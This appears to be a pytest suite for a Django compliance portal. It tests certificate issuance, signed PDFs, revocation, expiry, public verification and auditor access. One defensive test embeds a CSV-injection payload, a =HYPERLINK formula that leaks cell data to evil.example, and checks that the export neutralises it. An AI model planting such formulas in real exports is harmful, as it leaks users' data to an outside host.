"""Compliance certificates: issue on acceptance, signed PDF, supersede, revoke, verify."""

import hashlib
import io
import re
from datetime import timedelta
from pathlib import Path

import pypdf
import pytest
from django.conf import settings
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from alliance_portal.documents import document_read
from alliance_portal.models import AuditEvent
from alliance_portal.states import IllegalTransition, move
from compliance import services
from compliance.models import (
    CERTIFICATE_TRANSITIONS,
    CertificateStatus,
    ComplianceCertificate,
    ForfeitureCase,
)
from tests.factories import (
    MemberFactory,
    answer_everything,
    auditor,
    cycle_for,
    decider,
    licence_in,
    signatory_of,
)

S = CertificateStatus


def accepted_cycle(staff, capture, licence=None, grade="compliant"):
    cycle = cycle_for("open", licence=licence)
    signatory = signatory_of(cycle.member)
    answer_everything(cycle, signatory)
    services.cycle_submit(actor=signatory, cycle=cycle, typed_name="Ivan", declared=True)
    services.cycle_start_review(actor=staff, cycle=cycle)
    with capture(execute=True):
        services.cycle_accept(actor=staff, cycle=cycle, grade=grade)
    return cycle


def pending_certificate(staff, licence=None) -> ComplianceCertificate:
    """An accepted review's certificate, made but not yet rendered (its task never ran)."""
    cycle = cycle_for("open", licence=licence)
    signatory = signatory_of(cycle.member)
    answer_everything(cycle, signatory)
    services.cycle_submit(actor=signatory, cycle=cycle, typed_name="Ivan", declared=True)
    services.cycle_start_review(actor=staff, cycle=cycle)
    services.cycle_accept(actor=staff, cycle=cycle, grade="compliant")
    return ComplianceCertificate.objects.get(cycle=cycle, status=S.PENDING)


def decide(staff, licence, decision: str) -> None:
    case = services.case_open(
        actor=staff, licence=licence, grounds="non_compliance", narrative="Findings left open."
    )
    ForfeitureCase.objects.filter(pk=case.pk).update(status="window_closed")
    services.case_decide(actor=decider(), case=case, decision=decision, reasons="Breach of 2.2.")


def validate_signature(content: bytes) -> bool:
    from pyhanko.keys import load_cert_from_pemder
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign.validation import validate_pdf_signature
    from pyhanko_certvalidator import ValidationContext

    trust = ValidationContext(trust_roots=[load_cert_from_pemder(settings.ALLIANCE_SIGNING_CERT)])
    [signature] = PdfFileReader(io.BytesIO(content)).embedded_signatures
    status = validate_pdf_signature(signature, trust)
    return bool(status.intact and status.valid and status.trusted)


@pytest.mark.django_db
class TestIssue:
    def test_accepting_a_cycle_issues_a_signed_verifiable_certificate(
        self, staff_user, django_capture_on_commit_callbacks
    ):
        cycle = accepted_cycle(staff_user, django_capture_on_commit_callbacks, grade="improvement")
        certificate = ComplianceCertificate.objects.get(cycle=cycle)
        assert certificate.status == S.ISSUED
        assert len(certificate.verification_code) >= 32  # 192 random bits
        content = document_read(certificate.pdf)
        assert hashlib.sha256(content).hexdigest() == certificate.pdf.sha256
        text = " ".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(content)).pages)
        flat = "".join(text.split())
        assert cycle.member.legal_name in text
        assert cycle.licence.number in text
        assert "Improvement opportunity" in text
        assert certificate.valid_until.isoformat() in text
        assert f"/verify/{certificate.verification_code}/" in flat
        assert "Сертификат соответствия" in text
        assert validate_signature(content)

    def test_validity_ends_at_the_next_review_or_the_licence_end(
        self, staff_user, django_capture_on_commit_callbacks
    ):
        from datetime import timedelta

        from django.utils import timezone

        short = licence_in("active", ends_on=timezone.localdate() + timedelta(days=40))
        cycle = accepted_cycle(staff_user, django_capture_on_commit_callbacks, licence=short)
        assert ComplianceCertificate.objects.get(cycle=cycle).valid_until == short.ends_on

    def test_a_new_certificate_supersedes_the_previous_and_rendering_twice_changes_nothing(
        self, staff_user, django_capture_on_commit_callbacks
    ):
        first = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
        licence = first.licence
        second = accepted_cycle(staff_user, django_capture_on_commit_callbacks, licence=licence)
        old = ComplianceCertificate.objects.get(cycle=first)
        new = ComplianceCertificate.objects.get(cycle=second)
        assert (old.status, new.status) == (S.SUPERSEDED, S.ISSUED)
        pdf = new.pdf_id
        services.certificate_render(certificate_id=new.pk)
        new.refresh_from_db()
        assert new.pdf_id == pdf
        assert AuditEvent.objects.filter(action="certificate.issued").count() == 2

    def test_the_sweeper_renders_certificates_whose_task_was_lost(self, staff_user):
        from datetime import timedelta

        from django.utils import timezone

        cycle = cycle_for("open")
        signatory = signatory_of(cycle.member)
        answer_everything(cycle, signatory)
        services.cycle_submit(actor=signatory, cycle=cycle, typed_name="I", declared=True)
        services.cycle_start_review(actor=staff_user, cycle=cycle)
        services.cycle_accept(actor=staff_user, cycle=cycle, grade="compliant")  # task never ran
        certificate = ComplianceCertificate.objects.get(cycle=cycle)
        assert certificate.status == S.PENDING
        assert services.certificates_render_pending() == 0  # too fresh to be called lost
        ComplianceCertificate.objects.filter(pk=certificate.pk).update(
            created_at=timezone.now() - timedelta(minutes=10)
        )
        assert services.certificates_render_pending() == 1
        assert services.certificates_render_pending() == 0
        certificate.refresh_from_db()
        assert certificate.status == S.ISSUED


@pytest.mark.django_db
class TestVerification:
    def test_valid_then_revoked_after_a_forfeiture_and_json_matches_the_page(
        self, client, staff_user, django_capture_on_commit_callbacks
    ):
        cycle = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
        certificate = ComplianceCertificate.objects.get(cycle=cycle)
        url = reverse("verify:code", args=[certificate.verification_code])
        page = client.get(url).content.decode()
        assert "Valid" in page and cycle.licence.number in page
        assert client.get(url, {"format": "json"}).json()["valid"] is True
        case = services.case_open(
            actor=staff_user, licence=cycle.licence, grounds="logo_misuse", narrative="Misuse."
        )
        from compliance.models import ForfeitureCase

        ForfeitureCase.objects.filter(pk=case.pk).update(status="window_closed")
        services.case_decide(actor=decider(), case=case, decision="forfeiture", reasons="Misuse.")
        body = client.get(url, {"format": "json"}).json()
        assert body["status"] == "revoked" and body["valid"] is False
        assert body["ended_on"] is not None
        page = client.get(url).content.decode()
        for key in (
            "member",
            "licence_number",
            "number",
            "valid_from",
            "valid_until",
            "pdf_sha256",
        ):
            assert str(body[key]) in page, key
        assert "Revoked" in page
        assert cycle.member.address not in page  # nothing else about the member

    def test_unknown_codes_get_the_same_page_saying_not_found(self, client, db):
        response = client.get(reverse("verify:code", args=["x" * 32]))
        assert response.status_code == 404
        assert 'id="verification"' in response.content.decode()
        assert "Not found" in response.content.decode()
        assert client.get(reverse("verify:code", args=["nope"]), {"format": "json"}).json() == {
            "found": False,
            "status": "not_found",
        }

    def test_a_pdf_checks_out_and_one_changed_byte_does_not(
        self, client, staff_user, django_capture_on_commit_callbacks
    ):
        cycle = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
        content = document_read(ComplianceCertificate.objects.get(cycle=cycle).pdf)
        good = client.post(reverse("verify:form"), {"pdf": SimpleUploadedFile("c.pdf", content)})
        assert good.status_code == 200 and "Valid" in good.content.decode()
        tampered = bytearray(content)
        tampered[len(tampered) // 2] ^= 0x01
        bad = client.post(
            reverse("verify:form"), {"pdf": SimpleUploadedFile("c.pdf", bytes(tampered))}
        )
        assert bad.status_code == 404 and "Not found" in bad.content.decode()
        assert client.post(reverse("verify:form"), {}).status_code == 400

    def test_lookups_are_rate_limited(self, client, db):
        url = reverse("verify:code", args=["guessing"])
        statuses = [client.get(url).status_code for _ in range(65)]
        assert statuses[0] == 404 and statuses[-1] == 429


@pytest.mark.django_db
class TestAuditors:
    def test_auditors_see_only_their_grants_read_only(
        self, client, staff_user, django_capture_on_commit_callbacks
    ):
        from datetime import timedelta

        from django.utils import timezone

        from compliance.models import AuditorGrant
        from tests.helpers import login_with_mfa

        granted = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
        other = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
        person = auditor()
        services.auditor_grant_save(
            actor=staff_user,
            grant=AuditorGrant(
                auditor=person,
                member=granted.member,
                expires_on=timezone.localdate() + timedelta(days=30),
            ),
        )
        login_with_mfa(client, person)
        html = client.get(reverse("auditor:members")).content.decode()
        assert granted.member.legal_name in html and other.member.legal_name not in html
        mine = ComplianceCertificate.objects.get(cycle=granted)
        theirs = ComplianceCertificate.objects.get(cycle=other)
        assert client.get(reverse("auditor:certificate_pdf", args=[theirs.pk])).status_code == 404
        download = client.get(reverse("auditor:certificate_pdf", args=[mine.pk]))
        assert download.status_code == 200
        assert AuditEvent.objects.filter(action="document.downloaded", actor=person).count() == 1
        csv_text = b"".join(client.get(reverse("auditor:members_csv")).streaming_content).decode()
        assert granted.member.legal_name in csv_text and other.member.legal_name not in csv_text
        for url in (reverse("auditor:members"), reverse("auditor:certificate_pdf", args=[mine.pk])):
            assert client.post(url).status_code == 405
        AuditorGrant.objects.update(expires_on=timezone.localdate() - timedelta(days=1))
        assert client.get(reverse("auditor:certificate_pdf", args=[mine.pk])).status_code == 404

    def test_the_csv_export_neutralises_spreadsheet_formulas(self, client, staff_user):
        import csv
        from datetime import timedelta

        from django.utils import timezone

        from compliance.models import AuditorGrant
        from tests.helpers import login_with_mfa

        hostile = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
        member = MemberFactory(legal_name=hostile)
        plain = MemberFactory(legal_name="Antwerp Rough NV")
        person = auditor()
        for granted in (member, plain):
            services.auditor_grant_save(
                actor=staff_user,
                grant=AuditorGrant(
                    auditor=person,
                    member=granted,
                    expires_on=timezone.localdate() + timedelta(days=30),
                ),
            )
        login_with_mfa(client, person)
        response = client.get(reverse("auditor:members_csv"))
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        names = {row[0] for row in rows[1:]}
        assert names == {"'" + hostile, "Antwerp Rough NV"}
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    def test_non_auditors_find_nothing(
        self, client, staff_user, django_capture_on_commit_callbacks
    ):
        cycle = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
        client.force_login(signatory_of(cycle.member))
        certificate = ComplianceCertificate.objects.get(cycle=cycle)
        assert client.get(reverse("auditor:members")).status_code == 404
        assert (
            client.get(reverse("auditor:certificate_pdf", args=[certificate.pk])).status_code == 404
        )


@pytest.mark.django_db
def test_reissue_batch_reports_progress(staff_user, django_capture_on_commit_callbacks):
    first = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks(execute=True):
        batch = services.certificate_batch_start(
            actor=staff_user,
            members=[first.member, MemberFactory()],  # the second has no accepted review
        )
    batch.refresh_from_db()
    assert batch.done + batch.skipped == batch.total and batch.finished_at is not None
    assert batch.percent == 100
    assert ComplianceCertificate.objects.filter(member=first.member, status=S.ISSUED).count() == 1


@pytest.mark.django_db
class TestRevocation:
    @pytest.mark.parametrize(
        ("decision", "status"),
        [("suspension", S.REVOKED), ("forfeiture", S.REVOKED), ("warning", S.ISSUED)],
    )
    def test_a_suspension_revokes_the_certificates_as_a_forfeiture_does(
        self, client, staff_user, django_capture_on_commit_callbacks, decision, status
    ):
        cycle = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
        certificate = ComplianceCertificate.objects.get(cycle=cycle)
        assert certificate.status == S.ISSUED
        decide(staff_user, cycle.licence, decision)
        certificate.refresh_from_db()
        assert certificate.status == status
        url = reverse("verify:code", args=[certificate.verification_code])
        assert client.get(url, {"format": "json"}).json()["valid"] is (status == S.ISSUED)
        revoked = AuditEvent.objects.filter(action="certificate.revoked", target_id=certificate.pk)
        assert revoked.count() == (1 if status == S.REVOKED else 0)

    def test_a_certificate_revoked_before_its_pdf_stays_revoked_and_is_never_issued(
        self, client, staff_user
    ):
        certificate = pending_certificate(staff_user)
        decide(staff_user, certificate.licence, "suspension")
        certificate.refresh_from_db()
        assert certificate.status == S.REVOKED
        services.certificate_render(certificate_id=certificate.pk)  # the late task
        services.certificates_render_pending(older_than_minutes=0)  # and the sweeper
        certificate.refresh_from_db()
        assert certificate.status == S.REVOKED and certificate.pdf_id is None
        assert certificate.issued_at is None
        assert not AuditEvent.objects.filter(action="certificate.issued").exists()
        body = client.get(
            reverse("verify:code", args=[certificate.verification_code]), {"format": "json"}
        ).json()
        assert body["status"] == "revoked" and body["valid"] is False

    def test_revoking_needs_a_decision_maker(self, staff_user, django_capture_on_commit_callbacks):
        cycle = accepted_cycle(staff_user, django_capture_on_commit_callbacks)
        for refused in (staff_user, signatory_of(cycle.member), None):
            with pytest.raises(PermissionDenied):
                services.certificates_revoke_for_licence(
                    actor=refused, licence=cycle.licence, reason="x"
                )
        assert ComplianceCertificate.objects.get(cycle=cycle).status == S.ISSUED
        revoked = services.certificates_revoke_for_licence(
            actor=decider(), licence=cycle.licence, reason="Sanctions."
        )
        assert revoked == 1
        assert ComplianceCertificate.objects.get(cycle=cycle).status == S.REVOKED


@pytest.mark.django_db
def test_verify_never_shows_a_pending_certificate(
    client, staff_user, django_capture_on_commit_callbacks
):
    certificate = pending_certificate(staff_user)
    url = reverse("verify:code", args=[certificate.verification_code])
    page = client.get(url)
    assert page.status_code == 404 and "Not found" in page.content.decode()
    assert certificate.number not in page.content.decode()
    assert client.get(url, {"format": "json"}).json() == {"found": False, "status": "not_found"}
    typed = client.get(reverse("verify:form"), {"code": certificate.verification_code}, follow=True)
    assert typed.status_code == 404 and certificate.number not in typed.content.decode()
    services.certificate_render(certificate_id=certificate.pk)  # signed: now it is shown
    page = client.get(url)
    assert page.status_code == 200 and certificate.number in page.content.decode()
    assert client.get(url, {"format": "json"}).json()["valid"] is True


@pytest.mark.django_db
def test_certificates_expire_after_their_validity_once(
    staff_user, django_capture_on_commit_callbacks
):
    today = timezone.localdate()
    due = ComplianceCertificate.objects.get(
        cycle=accepted_cycle(staff_user, django_capture_on_commit_callbacks)
    )
    last_day = ComplianceCertificate.objects.get(
        cycle=accepted_cycle(staff_user, django_capture_on_commit_callbacks)
    )
    revoked = ComplianceCertificate.objects.get(
        cycle=accepted_cycle(staff_user, django_capture_on_commit_callbacks)
    )
    decide(staff_user, revoked.licence, "forfeiture")
    pending = pending_certificate(staff_user)  # last: no relay runs its render
    ComplianceCertificate.objects.filter(pk__in=[due.pk, pending.pk, revoked.pk]).update(
        valid_until=today - timedelta(days=1)
    )
    ComplianceCertificate.objects.filter(pk=last_day.pk).update(valid_until=today)
    assert services.certificates_expire_due(batch_size=1) == 1
    assert services.certificates_expire_due() == 0  # a second run changes nothing
    statuses = {
        c.pk: c.status
        for c in ComplianceCertificate.objects.filter(
            pk__in=[due.pk, last_day.pk, pending.pk, revoked.pk]
        )
    }
    assert statuses == {
        due.pk: S.EXPIRED,
        last_day.pk: S.ISSUED,  # valid through its last day
        pending.pk: S.PENDING,  # never issued: nothing to expire
        revoked.pk: S.REVOKED,
    }
    due.refresh_from_db()
    assert due.ended_at is not None and due.end_reason == "Validity ended"
    [event] = AuditEvent.objects.filter(action="certificate.expired")
    assert event.target_id == str(due.pk) and event.actor is None


@pytest.fixture
def quick_certificates():
    """The PDF is not what these tests look at: a stand-in keeps them quick."""
    from unittest import mock

    from compliance.services import certificates

    pdf = b"%PDF-1.4\n% a stand-in for the certificate\n%%EOF\n"
    with (
        mock.patch.object(certificates, "render_pdf_template", return_value=pdf),
        mock.patch.object(certificates, "sign_pdf", side_effect=lambda content, reason: content),
    ):
        yield


def _certificate_in(status: str, staff) -> ComplianceCertificate:
    certificate = pending_certificate(staff)
    if status != S.PENDING:
        services.certificate_render(certificate_id=certificate.pk)
        ComplianceCertificate.objects.filter(pk=certificate.pk).update(status=status)
        certificate.refresh_from_db()
    return certificate


def test_the_certificate_lifecycle_is_the_declared_one():
    """pending → issued | revoked; issued → superseded | revoked | expired; nothing else (a
    revoked, expired or superseded certificate never comes back)."""
    moves = {(source, t.target) for t in CERTIFICATE_TRANSITIONS.values() for source in t.sources}
    assert moves == {
        (S.PENDING, S.ISSUED),
        (S.PENDING, S.REVOKED),
        (S.ISSUED, S.SUPERSEDED),
        (S.ISSUED, S.REVOKED),
        (S.ISSUED, S.EXPIRED),
    }


@pytest.mark.django_db
@pytest.mark.parametrize("status", S.values)
@pytest.mark.parametrize("action", list(CERTIFICATE_TRANSITIONS))
def test_certificate_transitions_from_every_state(action, status, staff_user, quick_certificates):
    """Each service moves a certificate only along the table; from any other state it leaves
    the certificate as it was."""
    certificate = _certificate_in(status, staff_user)
    today = timezone.localdate()
    calls = {
        "issue": lambda: services.certificate_render(certificate_id=certificate.pk),
        "revoke": lambda: services.certificates_revoke_for_licence(
            actor=decider(), licence=certificate.licence, reason="Sanctions."
        ),
        # A newer certificate of the same member, issued.
        "supersede": lambda: services.certificate_render(
            certificate_id=pending_certificate(staff_user, licence=certificate.licence).pk
        ),
        "expire": lambda: (
            ComplianceCertificate.objects.filter(pk=certificate.pk).update(
                valid_until=today - timedelta(days=1)
            ),
            services.certificates_expire_due(),
        ),
    }
    transition = CERTIFICATE_TRANSITIONS[action]
    calls[action]()
    certificate.refresh_from_db()
    if status in transition.sources:
        assert certificate.status == transition.target
    else:
        assert certificate.status == status
        with pytest.raises(IllegalTransition):
            move(certificate, CERTIFICATE_TRANSITIONS, action)


def test_no_compliance_service_updates_statuses_in_bulk():
    """Statuses change one row at a time, through the transition table: never `.update()`."""
    services_dir = Path(__file__).resolve().parents[2] / "compliance" / "services"
    bulk = re.compile(r"\.update\([^)]*\bstatus\s*=", re.DOTALL)
    offenders = [p.name for p in services_dir.glob("*.py") if bulk.search(p.read_text())]
    assert offenders == []
